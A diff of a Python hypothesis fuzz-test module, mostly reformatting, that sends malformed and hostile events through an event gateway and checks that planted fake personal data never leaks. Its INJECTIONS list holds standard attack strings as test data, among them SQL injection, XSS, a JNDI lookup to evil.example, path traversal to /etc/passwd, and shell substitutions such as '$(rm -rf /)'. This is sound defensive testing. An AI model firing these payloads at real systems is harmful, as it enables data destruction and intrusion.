@@ -1,4 +1,4 @@
-"""Bad input at volume (SPEC §8): malformed, hostile and boundary events, generated with
+"""Bad input at volume: malformed, hostile and boundary events, generated with
 hypothesis, through the publish path, the policy core and the running stream worker.
 
 Each input carries planted personal data (markers no schema message or default could
@@ -23,29 +23,51 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from gateway.consent import ConsentState
+from gateway.dev.samples import scenario
 from gateway.errors import EventError
 from gateway.events import parse_event
 from gateway.pipeline import Pipeline
 from gateway.runtime import Core
-from gateway.samples import scenario
 
 # Planted personal data: distinctive, so a hit is a leak and never a coincidence.
-MARKERS = ("Zyxwvut", "Qlorbington", "qz.leak7731@example.org", "4000056655665556",
-           "Xyloquent Lane", "555-0199-7731")
+MARKERS = (
+    "Zyxwvut",
+    "Qlorbington",
+    "qz.leak7731@example.org",
+    "4000056655665556",
+    "Xyloquent Lane",
+    "555-0199-7731",
+)
 NAME = {"first": "Zyxwvut", "last": "Qlorbington"}
 EMAIL = "qz.leak7731@example.org"
 
-REASONS = {"not_json", "too_large", "unknown_type", "schema"}
+REASONS = {"not_json", "too_large", "unknown_type", "schema", "card_number"}
 MAX_EVENT = 256 * 1024
 # Many examples by default; GATEWAY_FUZZ_EXAMPLES scales the run (CI keeps the default).
 EXAMPLES = int(os.environ.get("GATEWAY_FUZZ_EXAMPLES", "1000"))
 
 INJECTIONS = [
-    "'; DROP TABLE ledger_records; --", "' OR '1'='1", "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>', "{{7*7}}", "${jndi:ldap://evil.example/a}",
-    "%s%s%s%n", "{0.__class__}", "../../../etc/passwd", "\x00\x01\x02", "\u202eevil",
-    "\nERROR gateway: forged log line", "\r\nSet-Cookie: x=1", "$(rm -rf /)", "`id`",
-    "\\u0000", "\U0001d54f" * 40, "\ufeffbom", "NaN", "-1e309", "9" * 400,
+    "'; DROP TABLE ledger_records; --",
+    "' OR '1'='1",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "%s%s%s%n",
+    "{0.__class__}",
+    "../../../etc/passwd",
+    "\x00\x01\x02",
+    "\u202eevil",
+    "\nERROR gateway: forged log line",
+    "\r\nSet-Cookie: x=1",
+    "$(rm -rf /)",
+    "`id`",
+    "\\u0000",
+    "\U0001d54f" * 40,
+    "\ufeffbom",
+    "NaN",
+    "-1e309",
+    "9" * 400,
 ]
 
 BASES = scenario()
@@ -103,12 +125,15 @@ hostile_value = st.one_of(
     st.sampled_from(INJECTIONS),
     st.sampled_from([None, True, False, 0, -1, 2**63, -(2**63) - 1, 1.5e308, [], {}]),
     st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
-    st.integers(), st.floats(allow_nan=False),
+    st.integers(),
+    st.floats(allow_nan=False),
     st.builds(lambda n, m: (m + " ") * n, st.integers(1, 20_000), st.sampled_from(MARKERS)),
     st.builds(deep, st.integers(1, 120)),
-    st.dictionaries(st.sampled_from(["card_pin", "ssn", "__proto__", "$where",
-                                     "a" * 300, "x.y", "<b>"]),
-                    st.sampled_from(MARKERS), max_size=3),
+    st.dictionaries(
+        st.sampled_from(["card_pin", "ssn", "__proto__", "$where", "a" * 300, "x.y", "<b>"]),
+        st.sampled_from(MARKERS),
+        max_size=3,
+    ),
 )
 
 
@@ -118,8 +143,11 @@ def mutated_event(draw: st.DrawFn) -> dict[str, Any]:
     fuzzed too, with hostile strings where the schema allows free text)."""
     e = plant(draw(st.sampled_from(BASES)))
     for _ in range(draw(st.integers(0, 3))):
-        op = draw(st.sampled_from(["set", "extra", "drop", "type", "version", "time",
-                                   "subject", "event_id", "notes"]))
+        op = draw(
+            st.sampled_from(
+                ["set", "extra", "drop", "type", "version", "time", "subject", "event_id", "notes"]
+            )
+        )
         if op == "set":
             path = draw(st.sampled_from(string_paths(e)))
             set_path(e, path, draw(hostile_value))
@@ -127,31 +155,76 @@ def mutated_event(draw: st.DrawFn) -> dict[str, Any]:
             dicts = [p for p in string_paths(e) if isinstance(_get(e, p), dict)]
             path = draw(st.sampled_from(dicts))
             # Field names are not personal data here; one that is has its own (xfail) test.
-            _get(e, path)[draw(st.sampled_from(["card_pin", "category", "ssn", "$where",
-                                                 "user.unknown_category", "x" * 100,
-                                                 "<script>"]))] = EMAIL
+            _get(e, path)[
+                draw(
+                    st.sampled_from(
+                        [
+                            "card_pin",
+                            "category",
+                            "ssn",
+                            "$where",
+                            "user.unknown_category",
+                            "x" * 100,
+                            "<script>",
+                        ]
+                    )
+                )
+            ] = EMAIL
         elif op == "drop":
-            key = draw(st.sampled_from(["event_id", "event_type", "subject", "data",
-                                        "occurred_at", "schema_version"]))
+            key = draw(
+                st.sampled_from(
+                    ["event_id", "event_type", "subject", "data", "occurred_at", "schema_version"]
+                )
+            )
             e.pop(key, None)
         elif op == "type":
-            e["event_type"] = draw(st.sampled_from(["order.vanished", "ORDER.PLACED", "",
-                                                    "consent.changed", "site.visit",
-                                                    "x" * 300, "order.placed\n"]))
+            e["event_type"] = draw(
+                st.sampled_from(
+                    [
+                        "order.vanished",
+                        "ORDER.PLACED",
+                        "",
+                        "consent.changed",
+                        "site.visit",
+                        "x" * 300,
+                        "order.placed\n",
+                    ]
+                )
+            )
         elif op == "version":
             e["schema_version"] = draw(st.sampled_from([0, 2, "1", None, 1.0]))
         elif op == "time":
-            e["occurred_at"] = draw(st.sampled_from(["yesterday", "2026-13-40T99:00:00Z",
-                                                     "", 0, "9999-12-31T23:59:59Z",
-                                                     "0001-01-01T00:00:00Z"]))
+            e["occurred_at"] = draw(
+                st.sampled_from(
+                    [
+                        "yesterday",
+                        "2026-13-40T99:00:00Z",
+                        "",
+                        0,
+                        "9999-12-31T23:59:59Z",
+                        "0001-01-01T00:00:00Z",
+                    ]
+                )
+            )
         elif op == "subject":
-            e["subject"] = draw(st.sampled_from([
-                {"customer_id": "Zyxwvut Qlorbington", "type": "consumer"},
-                {"customer_id": "C-1", "type": "alien"}, {"customer_id": "", "type": "business"},
-                {"customer_id": "C" * 65, "type": "consumer"}, {"customer_id": "C-1"}, None]))
+            e["subject"] = draw(
+                st.sampled_from(
+                    [
+                        {"customer_id": "Zyxwvut Qlorbington", "type": "consumer"},
+                        {"customer_id": "C-1", "type": "alien"},
+                        {"customer_id": "", "type": "business"},
+                        {"customer_id": "C" * 65, "type": "consumer"},
+                        {"customer_id": "C-1"},
+                        None,
+                    ]
+                )
+            )
         elif op == "event_id":
-            e["event_id"] = draw(st.sampled_from(["short", "e" * 65, "evt-00000001",
-                                                  BASES[0]["event_id"], 12345678, None]))
+            e["event_id"] = draw(
+                st.sampled_from(
+                    ["short", "e" * 65, "evt-00000001", BASES[0]["event_id"], 12345678, None]
+                )
+            )
         elif op == "notes" and isinstance(e.get("data"), dict):
             e["data"]["notes"] = draw(st.sampled_from(INJECTIONS))
     return e
@@ -195,15 +268,31 @@ def encode(e: dict[str, Any], how: str) -> bytes:
 
 raw_garbage = st.one_of(
     st.binary(max_size=300),
-    st.sampled_from([b"", b"null", b"[]", b'"Zyxwvut Qlorbington"', b"{", b"}" * 10,
-                     b"\xff\xfe\x00Zyxwvut", b"\xc0\xae\xc0\xae", b"\xed\xa0\x80",
-                     b'{"a":' * 5000 + b"1" + b"}" * 5000, b"[" * 100_000,
-                     b"1e999999", b'{"event_id": "\\ud800"}', b"Zyxwvut\n" * 1000]),
+    st.sampled_from(
+        [
+            b"",
+            b"null",
+            b"[]",
+            b'"Zyxwvut Qlorbington"',
+            b"{",
+            b"}" * 10,
+            b"\xff\xfe\x00Zyxwvut",
+            b"\xc0\xae\xc0\xae",
+            b"\xed\xa0\x80",
+            b'{"a":' * 5000 + b"1" + b"}" * 5000,
+            b"[" * 100_000,
+            b"1e999999",
+            b'{"event_id": "\\ud800"}',
+            b"Zyxwvut\n" * 1000,
+        ]
+    ),
 )
 
-encoded_event = st.builds(encode, mutated_event(),
-                          st.sampled_from(["utf8"] * 6 + ["utf16", "latin1", "bom",
-                                                           "truncated", "dupkeys", "huge"]))
+encoded_event = st.builds(
+    encode,
+    mutated_event(),
+    st.sampled_from(["utf8"] * 6 + ["utf16", "latin1", "bom", "truncated", "dupkeys", "huge"]),
+)
 # Mostly events that look like events (the hard cases), some plain garbage.
 hostile_input = st.one_of(encoded_event, encoded_event, encoded_event, raw_garbage)
 
@@ -218,7 +307,9 @@ def assert_no_markers(blob: bytes | str, where: str) -> None:
 def check_outcome(pipeline: Pipeline, raw: bytes, states: dict[str, ConsentState]) -> str:
     """Process one input; assert it is dead-lettered cleanly or processed as a valid event.
     Returns the dead-letter reason, or "ok"."""
-    out = pipeline.process(raw, states)  # must never raise: the worker would dead-letter
+    out = pipeline.process(
+        raw, states, verify=False
+    )  # must never raise: the worker would dead-letter
     if out.dead_letter is not None:
         d = out.dead_letter
         assert d.reason in REASONS, d.reason
@@ -250,16 +341,24 @@ def count(kind: str) -> None:
     TRIED[kind] = TRIED.get(kind, 0) + 1
 
 
-@settings(max_examples=EXAMPLES, deadline=None, database=None,
-          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(hostile_input)
 def test_every_bad_input_is_dead_lettered_or_processed_without_leaking(raw: bytes) -> None:
     core = _core()
     count(check_outcome(core.pipeline, raw, {}))
 
 
-@settings(max_examples=max(50, EXAMPLES // 4), deadline=None, database=None,
-          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=max(50, EXAMPLES // 4),
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(st.lists(hostile_input, min_size=2, max_size=12))
 def test_sequences_with_shared_state_and_reused_ids(raws: list[bytes]) -> None:
     # One consent table across the sequence, and some inputs repeated verbatim (a
@@ -270,8 +369,12 @@ def test_sequences_with_shared_state_and_reused_ids(raws: list[bytes]) -> None:
         count(check_outcome(core.pipeline, raw, states))
 
 
-@settings(max_examples=EXAMPLES, deadline=None, database=None,
-          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(hostile_input)
 def test_the_publish_path_rejects_with_a_redacted_error(raw: bytes) -> None:
     # What gateway.sdk.publisher.Publisher.validate runs before sending anything.
@@ -324,8 +427,7 @@ def test_boundaries_of_the_envelope(core: Core) -> None:
     assert check_outcome(core.pipeline, at_limit + b" ", {}) == "too_large"
 
 
-def test_personal_data_in_an_invalid_event_id_does_not_reach_the_dead_letter(
-        core: Core) -> None:
+def test_personal_data_in_an_invalid_event_id_does_not_reach_the_dead_letter(core: Core) -> None:
     e = plant(next(e for e in BASES if e["event_type"] == "order.placed"))
     e["event_id"] = EMAIL  # not a valid id: the event is dead-lettered ...
     check_outcome(core.pipeline, orjson.dumps(e), {})  # ... and must not quote it
@@ -341,8 +443,10 @@ def test_personal_data_as_a_field_name_does_not_reach_the_dead_letter(core: Core
 def test_report_how_many_inputs_were_tried() -> None:
     # Runs after the property tests in this module: a floor on the volume actually tried.
     total = sum(TRIED.values())
-    print(f"bad/hostile inputs tried through the core and the publish path: {total} "
-          f"({dict(sorted(TRIED.items()))})")
+    print(
+        f"bad/hostile inputs tried through the core and the publish path: {total} "
+        f"({dict(sorted(TRIED.items()))})"
+    )
     if total:  # 0 when this test is selected alone
         assert total >= EXAMPLES
 
@@ -355,8 +459,12 @@ def fresh_id(raw: bytes, n: int) -> bytes:
         e = orjson.loads(raw)
     except orjson.JSONDecodeError:
         return raw
-    if not isinstance(e, dict) or not isinstance(e.get("event_id"), str) \
-            or len(e["event_id"]) < 8 or raw.startswith(b"\xef\xbb\xbf"):
+    if (
+        not isinstance(e, dict)
+        or not isinstance(e.get("event_id"), str)
+        or len(e["event_id"]) < 8
+        or raw.startswith(b"\xef\xbb\xbf")
+    ):
         return raw
     e["event_id"] = f"evt-fuzz-{n:06d}-{e['event_id'][-8:]}"
     try:
@@ -365,25 +473,32 @@ def fresh_id(raw: bytes, n: int) -> bytes:
         return raw
 
 
+@pytest.mark.slow
 @pytest.mark.broker
-def test_hostile_input_through_the_stream(broker, topic_prefix: str, tmp_path: Path,  # type: ignore[no-untyped-def]
-                                          record_property: pytest.RecordProperty) -> None:
+def test_hostile_input_through_the_stream(
+    broker,
+    topic_prefix: str,
+    tmp_path: Path,  # type: ignore[no-untyped-def]
+    record_property: pytest.RecordProperty,
+) -> None:
     from kafka import KafkaProducer
 
     from gateway.audit import reconcile_deployment, reconcile_until_settled
     from gateway.sdk.publisher import PRODUCER_DEFAULTS, Publisher
-    from tests.stream_helpers import Env, Worker
+    from tests.stream.helpers import Env, Worker
 
     env = Env.create(tmp_path, broker.bootstrap, topic_prefix)
     sent: list[bytes] = []
     publish_rejected = 0
     with Worker(env) as w:
-        producer = KafkaProducer(bootstrap_servers=[env.settings.bootstrap_servers],
-                                 **PRODUCER_DEFAULTS)
+        producer = KafkaProducer(
+            bootstrap_servers=[env.settings.bootstrap_servers], **PRODUCER_DEFAULTS
+        )
         publisher = Publisher(env.settings.bootstrap_servers, env.settings.input_topic)
 
-        @settings(max_examples=6, deadline=None, database=None,
-                  suppress_health_check=list(HealthCheck))
+        @settings(
+            max_examples=6, deadline=None, database=None, suppress_health_check=list(HealthCheck)
+        )
         @given(st.lists(hostile_input, min_size=40, max_size=40))
         def run(batch: list[bytes]) -> None:
             nonlocal publish_rejected
@@ -413,11 +528,14 @@ def test_hostile_input_through_the_stream(broker, topic_prefix: str, tmp_path: P
             producer.close()
             publisher.close()
         rep = reconcile_until_settled(
-            lambda: reconcile_deployment(env.settings, pipeline=env.core.pipeline), 90)
+            lambda: reconcile_deployment(env.settings, pipeline=env.core.pipeline), 90
+        )
         dead = env.topic(env.settings.dead_letter_topic)
         assert w.proc is not None and w.proc.poll() is None  # still up
-    summary = (f"{len(sent)} hostile inputs through the stream ({publish_rejected} refused by "
-               f"the SDK), {len(dead)} dead letters; reconcile {rep.summary()}")
+    summary = (
+        f"{len(sent)} hostile inputs through the stream ({publish_rejected} refused by "
+        f"the SDK), {len(dead)} dead letters; reconcile {rep.summary()}"
+    )
     record_property("fuzz_stream", summary)
     print(summary)
     assert not rep.gaps and not rep.pending, [f.to_dict() for f in rep.gaps][:5]
